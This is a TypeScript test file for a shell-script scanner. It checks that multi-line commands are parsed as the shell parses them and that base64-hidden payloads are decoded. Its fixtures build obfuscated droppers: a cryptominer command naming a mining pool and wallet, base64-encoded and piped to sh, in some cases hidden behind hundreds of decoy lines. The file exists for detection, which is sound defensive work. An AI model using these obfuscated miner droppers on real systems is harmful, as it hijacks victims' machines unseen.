// A script is read one command at a time as the shell reads it (sh(1), "Lexical Structure", "Here-Documents"), so a
// payload that spans lines (a quoted string, a here-document, a pipeline continued with `\` or `|`) is read whole.
import { describe, expect, it } from 'vitest';
import { decodedScriptLines } from '../../main/engine/referenced-files';
import { scriptCommands } from '../../main/engine/script-lines';

const commands = (text: string): string[] => [...scriptCommands(text)];
const b64 = (text: string): string => Buffer.from(text).toString('base64');
/** base64 as base64(1) writes it by default, 76 characters a line. */
const wrapped = (text: string): string => (b64(text).match(/.{1,76}/g) ?? []).join('\n');

describe('the commands of a script', () => {
  it('joins what the shell joins, and nothing else', () => {
    expect(commands('a \\\nb\nc |\n d\ne &&\nf ||\ng\nh')).toEqual(['a b', 'c |  d', 'e && f || g', 'h']);
    // An escaped backslash last on a line ends it; so does a line whose `|` is in a comment.
    expect(commands('a \\\\\nb\nc # x |\nd')).toEqual(['a \\\\', 'b', 'c # x |', 'd']);
  });

  it('holds a quoted string over lines, with its line ends', () => {
    expect(commands(`echo 'one\ntwo' | sh\nnext`)).toEqual([`echo 'one\ntwo' | sh`, 'next']);
    expect(commands(`echo "a \\" still\nin" x\nnext`)).toEqual([`echo "a \\" still\nin" x`, 'next']);
    expect(commands(`x=$'it\\'s\nstill'\nnext`)).toEqual([`x=$'it\\'s\nstill'`, 'next']);
    // A quote inside a comment, or another kind of quote, opens nothing.
    expect(commands(`# don't\necho "it's"\nnext`)).toEqual([`# don't`, `echo "it's"`, 'next']);
  });

  it('keeps a here-document with the line that opens it', () => {
    expect(commands('cat <<EOF | sh\nline one\nline two\nEOF\nnext')).toEqual([
      'cat <<EOF | sh\nline one\nline two\nEOF',
      'next',
    ]);
    expect(commands("cat <<-'END'\n\tit's\n\tEND\nnext")).toEqual(["cat <<-'END'\n\tit's\n\tEND", 'next']);
    expect(commands('cat <<EOF\r\nx\r\nEOF\r\nnext')).toEqual(['cat <<EOF\r\nx\r\nEOF\r', 'next']);
    // A here-string and a shift are not here-documents.
    expect(commands('sh <<< "$x"\necho $((1<<2))\nnext')).toEqual(['sh <<< "$x"', 'echo $((1<<2))', 'next']);
  });

  it('reads the quotes of a $(...) or backquotes inside double quotes as their own', () => {
    expect(commands(`x="$(echo '"')"\nnext`)).toEqual([`x="$(echo '"')"`, 'next']);
    expect(commands('x="`echo \'"\'`"\nnext')).toEqual(['x="`echo \'"\'`"', 'next']);
    expect(commands(`x="$(printf '%s' "$(echo ')')")"\nnext`)).toEqual([`x="$(printf '%s' "$(echo ')')")"`, 'next']);
    // A command substitution over lines is one command, as a quote is.
    expect(commands('x=$(\n  echo a\n)\nnext')).toEqual(['x=$(\n  echo a\n)', 'next']);
  });

  it('gives what is left as one command when a quote or here-document never ends', () => {
    expect(commands("echo 'open\nrest\nof it")).toEqual(["echo 'open\nrest\nof it"]);
    expect(commands('cat <<EOF\nbody')).toEqual(['cat <<EOF\nbody']);
  });

  it('costs time in proportion to the script, however its lines go on', () => {
    // Joining by copying what was held at each line took half a minute here on 50,000 such lines; this bound is far
    // above linear time and far below that.
    const lines = 'a\n'.repeat(100_000);
    for (const script of [
      'echo a \\\n'.repeat(100_000),
      'echo a |\n'.repeat(100_000),
      `echo '${lines}`,
      `cat <<E\n${lines}`,
      `x="$(${'"$('.repeat(100_000)}\n${lines}`,
    ]) {
      const started = performance.now();
      expect(commands(script).length).toBe(1);
      expect(performance.now() - started).toBeLessThan(5000);
    }
  });
});

describe('what a script decodes over lines', () => {
  const payload =
    'cd ~/.k && ./kworker -o pool.hashvault.pro:443 -u ' +
    '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge';

  it('reads base64 wrapped over the lines of a quoted string', () => {
    expect(wrapped(payload).split('\n').length).toBeGreaterThan(2);
    const script = `#!/bin/sh\necho "${wrapped(payload)}" | base64 -d | sh\n`;
    const decoded = decodedScriptLines(script);
    expect(decoded.lines).toContainEqual(['/bin/sh', '-c', payload]);
    expect(decoded.runs).toBe(true);
  });

  it('reads base64 in a here-document', () => {
    const script = `#!/bin/bash\nbase64 --decode <<'EOF' | bash\n${wrapped(payload)}\nEOF\nexit 0\n`;
    const decoded = decodedScriptLines(script);
    expect(decoded.lines).toContainEqual(['/bin/sh', '-c', payload]);
    expect(decoded.runs).toBe(true);
  });

  it('reads each line of a command over lines on its own too, where it and the shell part ways on a quote', () => {
    // The `)` of a case pattern inside $(...) is not followed here: the `'` after it looks open to the end of the
    // script, while the shell reads every line below as a command. Decoys joined to the payload would use up one
    // command's bounds; the lines read alone find it.
    const misread = `y="$(case a in a) echo '"' ;; esac)"`;
    expect(commands(`${misread}\nnext`)).toHaveLength(1);
    const decoys = Array.from({ length: 300 }, (_, i) => `echo ${b64(`echo decoy ${i}`)} | base64 -d >/dev/null`);
    const script = [misread, ...decoys, `echo ${b64(payload)} | base64 -d | sh`, "z='ok'", ''].join('\n');
    const decoded = decodedScriptLines(script);
    expect(decoded.lines).toContainEqual(['/bin/sh', '-c', payload]);
    expect(decoded.runs).toBe(true);
  });

  it('reads base64 that fills its last line, with the decoder named after it', () => {
    // 57 bytes make exactly one 76-character line; two of them, and no shorter line after.
    const exact = 'x'.repeat(114 - 35) + ' -o pool.hashvault.pro:443 --tls -k';
    expect(exact.length).toBe(114);
    const script = `echo ${wrapped(exact).replace('\n', ' ')} | base64 -d | sh`;
    expect(decodedScriptLines(script).lines).toContainEqual(['/bin/sh', '-c', exact]);
  });
});
